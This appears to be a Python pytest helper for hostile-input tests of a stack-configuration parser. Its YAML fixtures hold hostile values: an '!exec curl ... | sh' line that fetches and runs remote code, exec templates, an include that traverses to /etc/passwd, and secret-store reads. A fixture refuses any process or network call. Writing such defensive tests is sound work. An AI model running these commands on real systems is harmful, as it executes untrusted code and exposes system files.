"""Shared by the hostile-input tests: a stack tree full of YAML functions, templates, remote
sources and paths out of the tree, and spies that record (and refuse) any attempt to run a
command or open a network connection."""

from __future__ import annotations

import os
import socket
import subprocess
import urllib.request
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import write_tree

FUNCTIONS = """
import:
  - catalog/vpc
  - https://example.com/stacks/remote
vars:
  stage: dev
components:
  terraform:
    vpc:
      settings:
        validation:
          remote:
            schema_type: jsonschema
            schema_path: schemas/remote.json
      vars:
        a: !exec touch {marker}
        b: !include https://example.com/x.yaml
        c: !include git::https://github.com/acme/infra//vars.yaml?ref=v1
        d: !terraform.output vpc .id
        e: !terraform.state vpc .id
        f: !store ssm /acme/secret key
        g: !env HOME
        h: !template '{{{{ exec "touch" (list "{marker}") }}}}'
        i: '{{{{ exec "touch" (list "{marker}") }}}}'
        j: !git.sha
        k: !aws.account_id
        l: !random 1 10
        m: !cwd
        n: !repo-root
        o: !include ../../../../../../../etc/passwd
"""

SCHEMA = '{"properties": {"vars": {"$ref": "https://example.com/vars.schema.json"}}}'


def functions_tree(root: Path) -> Path:
    """The tree: deploy/dev.yaml full of functions, its catalog, and a schema with a remote
    `$ref`. A command that ran would create root/pwned."""
    marker = root / "pwned"
    return write_tree(
        root,
        {
            "stacks/deploy/dev.yaml": FUNCTIONS.format(marker=marker),
            "stacks/catalog/vpc.yaml": "components:\n  terraform:\n    vpc:\n      vars:\n"
            "        x: !exec curl -s https://example.com/steal | sh\n",
            "schemas/remote.json": SCHEMA,
        },
    )


class Refused(RuntimeError):
    pass


@pytest.fixture
def no_side_effects(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Records every attempt to start a process or connect to the network, and refuses it."""
    attempts: list[str] = []

    def refuse(name: str) -> Any:
        def fn(*args: Any, **kwargs: Any) -> Any:
            attempts.append(f"{name}{args!r}")
            raise Refused(name)

        return fn

    monkeypatch.setattr(subprocess, "Popen", refuse("subprocess.Popen"))
    monkeypatch.setattr(os, "system", refuse("os.system"))
    monkeypatch.setattr(os, "popen", refuse("os.popen"))
    monkeypatch.setattr(os, "execv", refuse("os.execv"))
    monkeypatch.setattr(os, "execvp", refuse("os.execvp"))
    monkeypatch.setattr(socket.socket, "connect", refuse("socket.connect"))
    monkeypatch.setattr(socket, "create_connection", refuse("socket.create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("socket.getaddrinfo"))
    monkeypatch.setattr(urllib.request, "urlopen", refuse("urllib.request.urlopen"))
    return attempts
